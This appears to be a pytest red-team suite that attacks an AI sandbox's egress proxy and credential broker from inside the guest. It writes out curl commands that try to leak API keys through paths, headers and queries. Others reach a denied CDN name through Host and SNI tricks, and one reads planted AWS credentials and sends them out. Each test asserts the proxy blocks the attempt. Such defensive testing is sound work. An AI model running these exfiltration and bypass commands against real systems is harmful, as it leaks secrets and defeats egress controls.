"""Issue 9, red team, the proxy: attacks from guest root against the host's egress proxy and credential broker.

The fake internet (a namespace of this module): 203.0.113.10 is an upstream that echoes each request (path, query,
headers) back in its body, for the provider names; 203.0.113.11 is a "CDN" that serves two names on one address and
routes by TLS server name (443) or Host (80): allowed.example (allowed) and denied.example (not allowed; its content
must never reach the guest). Every name is pinned for the proxy; the upstream CA is test_egress's.
"""

from __future__ import annotations

import base64
import json
import os
import shlex
import time
from pathlib import Path

import pytest
from test_egress import NAMES, REAL, _test_pki, guest

from ai_sandbox.net import netns
from ai_sandbox.proxy.scrub import forms

pytestmark = [pytest.mark.vm, pytest.mark.redteam]

CDN_IP = "203.0.113.11"
CDN_SECRET = "CDN-CONTENT-OF-DENIED"
MARKER = "REALKEY"  # in every real key of test_egress.REAL, in no placeholder

SERVERS = r"""
import http.server, json, ssl, sys, threading
log = open(sys.argv[3], "a")
def note(**kw):
    log.write(json.dumps(kw) + "\n"); log.flush()
class Echo(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def _any(self):
        n = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(n)
        out = json.dumps({"path": self.path, "headers": dict(self.headers)}).encode()
        note(server="echo", path=self.path)
        self.send_response(200); self.send_header("Content-Length", str(len(out)))
        self.send_header("X-Echo-Key", self.headers.get("x-api-key") or "")
        self.send_header("Location", "https://api.anthropic.com/login?return_to=" + self.path)
        self.end_headers(); self.wfile.write(out)
    do_GET = do_POST = _any
    def log_message(self, *a): pass
class Cdn(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        name = getattr(self.connection, "sni", None) if isinstance(self.connection, ssl.SSLSocket) else None
        name = name or (self.headers.get("Host") or "").split(":")[0]
        out = (SECRET if name == "denied.example" else "cdn allowed").encode()
        note(server="cdn", name=name, path=self.path)
        self.send_response(200); self.send_header("Content-Length", str(len(out))); self.end_headers()
        self.wfile.write(out)
    def log_message(self, *a): pass
SECRET = sys.argv[4]
def tls_ctx():
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain(sys.argv[1], sys.argv[2])
    def remember(sock, name, _ctx):
        sock.sni = name
    ctx.sni_callback = remember
    return ctx
def serve(addr, port, handler, tls):
    srv = http.server.ThreadingHTTPServer((addr, port), handler)
    if tls:
        srv.socket = tls_ctx().wrap_socket(srv.socket, server_side=True)
    srv.serve_forever()
for args in (("203.0.113.10", 443, Echo, True), ("203.0.113.11", 443, Cdn, True), ("203.0.113.11", 80, Cdn, False)):
    threading.Thread(target=serve, args=args, daemon=True).start()
print("listening", flush=True)
threading.Event().wait()
"""

RESETS = r"""
import socket, struct, sys
for _ in range(40):
    s = socket.create_connection((sys.argv[1], 3128))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    s.sendall(b"CONNECT allowed.example:443 HTTP/1.1\r\n\r\n")
    s.close()
print("done")
"""


@pytest.fixture(scope="module")
def internet(topo, tmp_path_factory):
    d = tmp_path_factory.mktemp("redteam-pki")
    ca, leaf, key = _test_pki(d)
    log = d / "servers.jsonl"
    log.write_text("")
    topo.internet.ip("addr", "add", f"{CDN_IP}/32", "dev", "lo")
    proc = topo.internet.python(SERVERS, str(leaf), str(key), str(log), CDN_SECRET, log_name="redteam-servers.log")
    netns.wait_for(lambda: "listening" in (topo.internet.workdir / "redteam-servers.log").read_text(), "servers")
    assert proc.poll() is None
    return {"ca": ca, "log": log}


@pytest.fixture(scope="module")
def box(ai, internet, minimal_image, tmp_path_factory, monkeypatch_module):
    cdn = {"allowed.example", "denied.example"}
    pins = ",".join(f"{n}={CDN_IP if n in cdn else '203.0.113.10'}" for n in NAMES)
    env = {**REAL, "AI_SANDBOX_PROXY_HOSTS": pins, "AI_SANDBOX_PROXY_UPSTREAM_CA": str(internet["ca"]),
           "AI_SANDBOX_PROXY_ALLOWED_NETWORKS": "203.0.113.0/24"}
    for k, v in env.items():
        monkeypatch_module.setenv(k, v)
    ws = tmp_path_factory.mktemp("redteam-proxy-ws")
    ai("start", "--name", "rtp", "--workspace", str(ws), "--image", "minimal", "--detach", "--memory", "1024",
       "--network", "proxy")
    ai("policy", "allow", "allowed.example", "rtp")
    yield "rtp"
    ai("rm", "--force", "rtp", check=False)


def _served(internet) -> list[dict]:
    return [json.loads(ln) for ln in internet["log"].read_text().splitlines()]


def _inst(ai, name: str) -> Path:
    return Path(ai.state, name)


ECHOES = {
    "placeholder in a path segment": 'curl -sS -i https://api.anthropic.com/v1/$ANTHROPIC_API_KEY/x',
    "placeholder in anthropic-beta": 'curl -sS -i https://api.anthropic.com/v1/m -H "anthropic-beta: $ANTHROPIC_API_KEY"',
    "placeholder in a query parameter": 'curl -sS -i "https://api.anthropic.com/v1/m?return_to=$ANTHROPIC_API_KEY"',
    "placeholder in Authorization to the x-api-key host": 'curl -sS -i https://api.anthropic.com/ '
                                                          '-H "Authorization: Bearer $ANTHROPIC_API_KEY"',
    "openai key in a path and a custom header": 'curl -sS -i https://api.openai.com/v1/$OPENAI_API_KEY '
                                                '-H "OpenAI-Organization: $OPENAI_API_KEY"',
    "github token in a query": 'curl -sS -i "https://github.com/login?return_to=$GITHUB_TOKEN"',
    "real key echoed by the upstream (own field)": 'curl -sS -i https://api.anthropic.com/v1/m '
                                                   '-H "x-api-key: $ANTHROPIC_API_KEY"',
    "real key echoed, asked gzip": 'curl -sS -i --compressed https://api.anthropic.com/v1/m '
                                   '-H "x-api-key: $ANTHROPIC_API_KEY"',
    "real key echoed, basic auth": 'curl -sS -i -u "x-access-token:$GITHUB_TOKEN" https://github.com/x.git/info/refs',
}


@pytest.mark.parametrize("attack", list(ECHOES))
def test_the_guest_never_reads_a_real_key(ai, box, attack):
    res = guest(ai, box, ECHOES[attack] + " | base64 -w0")  # the marker cannot hide in the guest's own output
    out = base64.b64decode(res.stdout.strip() or b"")
    assert out.startswith(b"HTTP/1.1 "), (attack, res.stderr)
    assert MARKER.encode() not in out, attack
    for value in REAL.values():
        assert not any(form in out for form in forms(value)), attack


CDN_ATTACKS = {
    "CONNECT allowed:80 then Host: denied": "curl -sS -m 10 -p -x $https_proxy http://allowed.example:80/ "
                                            "-H 'Host: denied.example'",
    "CONNECT allowed:443 with SNI denied": "curl -sS -m 10 -k --connect-to denied.example:443:allowed.example:443 "
                                           "https://denied.example/",
    "CONNECT allowed:443 without SNI": "curl -sS -m 10 -k --connect-to 203.0.113.11:443:allowed.example:443 "
                                       "https://203.0.113.11/ -H 'Host: denied.example'",
    "CONNECT allowed:443 then plain HTTP": "curl -sS -m 10 -p -x $https_proxy http://allowed.example:443/ "
                                           "-H 'Host: denied.example'",
    "CONNECT allowed:8443": "curl -sS -m 10 -k https://allowed.example:8443/",
}


@pytest.mark.parametrize("attack", list(CDN_ATTACKS))
def test_an_allowed_cdn_name_does_not_open_the_rest_of_the_cdn(ai, box, internet, attack):
    before = len(_served(internet))
    res = guest(ai, box, CDN_ATTACKS[attack])
    assert CDN_SECRET not in res.stdout, attack
    assert all(r.get("name") != "denied.example" for r in _served(internet)[before:]), attack
    log = json.loads(ai("policy", "log", box, "--json").stdout)
    assert log[-1]["verdict"] == "deny", (attack, log[-1])


def test_the_allowed_cdn_name_still_works(ai, box):
    res = guest(ai, box, "curl -sS -m 10 -k https://allowed.example/")
    assert res.stdout == "cdn allowed", res.stderr


def _gateway(ai, name: str) -> str:
    spec = json.loads((_inst(ai, name) / "sandbox.json").read_text())
    return json.loads(spec["extra"]["net"])["host_ip"]


def test_a_host_process_cannot_use_the_sandbox_proxy(ai, box):
    gw = _gateway(ai, box)
    res = ai.topo.host.run(["curl", "-sS", "-m", "5", "-k", "-x", f"http://{gw}:3128", "-H",
                            "x-api-key: ai-sandbox-placeholder-ANTHROPIC_API_KEY", "https://api.anthropic.com/"],
                           check=False)  # fmt: skip
    assert res.returncode != 0 and MARKER not in (res.stdout or "")


def _proxy_fds(ai, name: str) -> int:
    pid = int((_inst(ai, name) / "proxy.pid").read_text())
    return len(os.listdir(f"/proc/{pid}/fd"))


def test_resets_before_the_200_leave_no_upstream_socket(ai, box):
    gw = _gateway(ai, box)
    guest(ai, box, "curl -sS -m 10 -k https://allowed.example/")
    time.sleep(1)
    before = _proxy_fds(ai, box)
    res = guest(ai, box, f"python3 -c {shlex.quote(RESETS)} {gw}")
    assert "done" in res.stdout, res.stderr
    deadline = time.monotonic() + 15
    while _proxy_fds(ai, box) > before + 2 and time.monotonic() < deadline:
        time.sleep(0.2)
    assert _proxy_fds(ai, box) <= before + 2


def test_a_honeytoken_use_is_blocked_and_shown_within_a_second(ai, box, internet):
    creds = guest(ai, box, "cat /home/sandbox/.aws/credentials; echo; echo $PROD_DEPLOY_TOKEN").stdout
    assert "aws_access_key_id = AKIA" in creds and "dpt_" in creds
    tokens = json.loads((_inst(ai, box) / "honeytokens.json").read_text())
    assert tokens["AWS_ACCESS_KEY_ID"] in creds
    before = len(_served(internet))
    res = guest(ai, box, "K=$(awk '/aws_access_key_id/{print $3}' /home/sandbox/.aws/credentials); "
                         "curl -sS -o /dev/null -w '%{http_code}' https://api.anthropic.com/v1/m "
                         "-H \"Authorization: AWS4-HMAC-SHA256 Credential=$K/20240101/us-east-1/s3/aws4_request\"")
    answered = time.time()
    assert res.stdout == "403", res.stderr
    rows = {r["name"]: r for r in json.loads(ai("ps", "--json").stdout)}
    log = json.loads(ai("policy", "log", box, "--json").stdout)
    alerts_file = _inst(ai, box) / "proxy-alerts.jsonl"
    seen_at = alerts_file.stat().st_mtime
    assert rows[box]["alerts"] >= 1
    assert any(e["verdict"] == "alert" and e["host"] == "api.anthropic.com" for e in log)
    assert all(r.get("path") != "/v1/m" for r in _served(internet)[before:])  # nothing reached the upstream
    # the alert was on disk before the guest had its answer (written before the 403 is sent): `ai ps` and
    # `ai policy log` show it as soon as they run, well within a second of the attempt
    assert seen_at <= answered
    text = ai("policy", "log", box).stdout
    assert "alert" in text and "honeytoken" in text
    ps_text = ai("ps").stdout
    assert "honeytoken" in ps_text
    res = guest(ai, box, "curl -sS -o /dev/null -w '%{http_code}' \"http://allowed.example/?t=$PROD_DEPLOY_TOKEN\"")
    assert res.stdout == "403"
    assert {r["name"]: r for r in json.loads(ai("ps", "--json").stdout)}[box]["alerts"] >= 2
